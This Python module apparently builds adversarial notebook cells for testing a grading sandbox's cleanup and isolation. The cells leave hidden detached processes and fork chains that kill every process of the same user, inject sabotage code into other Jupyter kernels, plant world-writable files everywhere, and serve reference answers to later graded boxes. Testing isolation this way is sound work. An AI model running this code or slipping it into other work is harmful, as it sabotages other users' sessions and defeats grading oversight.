"""What a dishonest notebook leaves behind when its box is released (issue 47): processes the release must see, and
files in the folders every account may write. Each builder returns the source of a notebook cell.

``leftover(payload)`` starts, detached from the kernel (its own session), a process whose thread-group leader leaves
with the raw ``exit`` system call (not ``exit_group``) while a thread runs ``payload``: ``/proc/<pid>/status`` shows
the leader as a zombie, its thread runs on. Variants: non-dumpable (its ``/proc`` entries show as root's), started
through a second fork (its parent gone before grading looks), a fork chain (each generation forks and exits, so a
kill one pid at a time always comes too late). Payloads: ``KILL_LOOP`` (signal every process of its uid, as the next
kernel given it would be), ``INJECT_LAB02`` (find a kernel of its uid, read its connection file, make its
``allocate_for_prefill`` raise OOM), ``FILES`` (a file in every folder its uid may write), and ``serve_parts``'s
server (another part's reference code, over an abstract socket and as files, to the part boxes graded after).
"""

from __future__ import annotations

import platform
import textwrap
from typing import Dict, Tuple

SYS_EXIT = {"x86_64": 60, "aarch64": 93}.get(platform.machine(), 60)

# Every folder this uid may write, walked in this process (a child process would show a live task of the uid).
WRITABLE = """
def writable_folders():
    found, stack = [], ["/"]
    while stack:
        folder = stack.pop()
        try:
            entries = list(os.scandir(folder))
        except OSError:
            continue
        for entry in entries:
            try:
                if entry.path in ("/proc", "/sys") or not entry.is_dir(follow_symlinks=False):
                    continue
            except OSError:
                continue
            stack.append(entry.path)
            if os.access(entry.path, os.W_OK):
                found.append(entry.path)
    return found
"""

FILES = (
    WRITABLE
    + """
for folder in writable_folders():
    try:
        with open(os.path.join(folder, ".pkv-left-for-the-next-box"), "w") as handle:
            handle.write("the answers")
        os.chmod(os.path.join(folder, ".pkv-left-for-the-next-box"), 0o666)
        os.makedirs(os.path.join(folder, ".pkv-left-folder", "deeper"), exist_ok=True)
        os.chmod(os.path.join(folder, ".pkv-left-folder"), 0o777)
    except OSError:
        pass
"""
)

KILL_LOOP = """
deadline = time.time() + SECONDS
while time.time() < deadline:
    try:
        os.kill(-1, 9)  # every process of this uid but this one: the next kernel given it, if any
    except OSError:
        pass
    time.sleep(0.02)
"""

FORK_CHAIN = """
deadline = time.time() + SECONDS
while time.time() < deadline:
    if os.fork():
        os._exit(0)  # the parent leaves, the child goes on under a new pid
    try:
        os.kill(-1, 9)
    except OSError:
        pass
    time.sleep(0.05)
"""

# In the kernel it reaches: after every cell, the notebook's KVCacheManager raises OOM in allocate_for_prefill.
SABOTAGE = """
def _pkv_sabotage(*_):
    cls = get_ipython().user_ns.get("KVCacheManager")
    if isinstance(cls, type) and not getattr(cls, "_pkv_sabotaged", False):
        def allocate_for_prefill(self, *args, **kwargs):
            raise RuntimeError("OOM: no free block")
        cls.allocate_for_prefill, cls._pkv_sabotaged = allocate_for_prefill, True
get_ipython().events.register("post_run_cell", _pkv_sabotage)
_pkv_sabotage()
"""

INJECT_LAB02 = """
import json
from jupyter_client import BlockingKernelClient
deadline, done = time.time() + SECONDS, set()
while time.time() < deadline:
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\\0")
            path = argv[argv.index("-f") + 1]
            if path in done or "ipykernel" not in " ".join(argv):
                continue
            client = BlockingKernelClient()
            client.load_connection_info(json.load(open(path)))
            client.start_channels()
            client.execute(SABOTAGE)
            time.sleep(0.3)
            client.stop_channels()
            done.add(path)
        except (OSError, ValueError, IndexError, RuntimeError):
            continue
    time.sleep(0.1)
""".replace("SABOTAGE", repr(SABOTAGE))


def leftover_script(
    payload: str, seconds: int = 120, nondumpable: bool = False, second_fork: bool = False, files: bool = True
) -> str:
    """The leftover process's program (see the module doc): ``payload`` for ``seconds`` in a thread while the leader
    leaves alone; with ``files``, it first leaves a file (0666) and a folder (0777) in every folder its uid may
    write."""
    body = textwrap.indent((FILES if files else "") + payload.replace("SECONDS", str(seconds)), "    ")
    return (
        "import ctypes, os, sys, threading, time\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        + ("if os.fork():\n    os._exit(0)\nos.setsid()\n" if second_fork else "")
        + ("libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0\n" if nondumpable else "")
        + "def body():\n"
        + body
        + "\nthreading.Thread(target=body).start()\ntime.sleep(0.3)\n"
        + f"libc.syscall({SYS_EXIT}, 0)  # the leader leaves alone: exit, not exit_group\n"
    )


def leftover(payload: str, kill_kernel: bool = False, **options) -> str:
    """A cell that starts ``leftover_script(payload, **options)`` detached from the kernel; with ``kill_kernel``, the
    cell then kills its own kernel (the box is released while the leftover runs)."""
    cell = (
        "import os as _os, subprocess as _subprocess, sys as _sys\n"
        f"_subprocess.Popen([_sys.executable, '-c', {leftover_script(payload, **options)!r}], start_new_session=True,\n"
        "                  stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)\n"
    )
    if kill_kernel:
        cell += "import time as _time\n_time.sleep(1.0)\n_os.kill(_os.getpid(), 9)\n"
    return cell


# ---- parts of a lab served to the part boxes graded later -------------------------------------------------------
SERVER = (
    "import marshal, os, socket, sys, threading, time\n"
    + WRITABLE
    + """
codes = marshal.loads(open(sys.argv[1], "rb").read())
folders = writable_folders()
def serve(key, code):
    for folder in folders:
        try:
            with open(os.path.join(folder, f".NAME-{key}"), "wb") as handle:
                handle.write(code)
            os.chmod(os.path.join(folder, f".NAME-{key}"), 0o666)
        except OSError:
            pass
    server = socket.socket(socket.AF_UNIX)
    try:
        server.bind(f"\\0NAME-{key}")
    except OSError:
        return  # another box serves it already
    server.listen(8)
    while True:
        client, _ = server.accept()
        client.sendall(code)
        client.close()
for key, code in codes.items():
    threading.Thread(target=serve, args=(key, code), daemon=True).start()
time.sleep(300)
"""
)


def serve_parts(refs: Dict[str, Tuple[str, str]], name: str) -> str:
    """A cell that, wherever a box holds the reference of a part in ``refs`` (``{key: (module, attribute path)}``)
    leaves a process (``leftover``'s kind: its leader exits alone) that serves its code over the abstract socket
    ``<name>-<key>`` and as files ``.<name>-<key>`` in every folder its uid may write, and that fetches, into
    ``_fetched[key]``, each part its own box leaves out from any of those (``fetched`` runs it)."""
    server = textwrap.indent(SERVER.replace("NAME", name), "    ")
    leader = (
        "import ctypes, os, sys, threading, time\n"
        "def body():\n" + server + "\nthreading.Thread(target=body).start()\ntime.sleep(0.3)\n"
        f"ctypes.CDLL(None).syscall({SYS_EXIT}, 0)\n"
    )
    return f'''\
import importlib, marshal, os, socket, subprocess, sys, threading, time, types
from paged_kv.cache.todo import is_stub
_NAME, _REFS, _fetched = {name!r}, {refs!r}, {{}}
def _reference(key):
    module, path = _REFS[key]
    value = importlib.import_module(module)
    for part in path.split("."):
        value = getattr(value, part)
    return value
_mine = {{key: marshal.dumps(_reference(key).__code__) for key in _REFS if not is_stub(_reference(key))}}
if _mine:
    _path = os.path.join(os.environ.get("HOME", "/tmp"), "." + _NAME)
    with open(_path, "wb") as _handle:
        _handle.write(marshal.dumps(_mine))
    subprocess.Popen([sys.executable, "-c", {leader!r}, _path], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
def _fetch(deadline):
    folders = [f for f in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock")]
    while time.time() < deadline and len(_fetched) < len(_REFS):
        for key in set(_REFS) - set(_fetched):
            for folder in folders:
                try:
                    _fetched[key] = open(os.path.join(folder, f".{{_NAME}}-{{key}}"), "rb").read()
                    break
                except OSError:
                    pass
            if key in _fetched:
                continue
            try:
                client = socket.socket(socket.AF_UNIX)
                client.connect(f"\\0{{_NAME}}-{{key}}")
                data = b""
                while chunk := client.recv(65536):
                    data += chunk
                _fetched[key] = data
            except OSError:
                pass
        time.sleep(0.05)
_fetcher = threading.Thread(target=_fetch, args=(time.time() + 4,), daemon=True)
_fetcher.start()
def fetched(key, *args):
    _fetcher.join(5)
    if key not in _fetched:
        raise NotImplementedError(f"the {{key}} part is not written")
    module, _ = _REFS[key]
    return types.FunctionType(marshal.loads(_fetched[key]), vars(importlib.import_module(module)))(*args)
'''
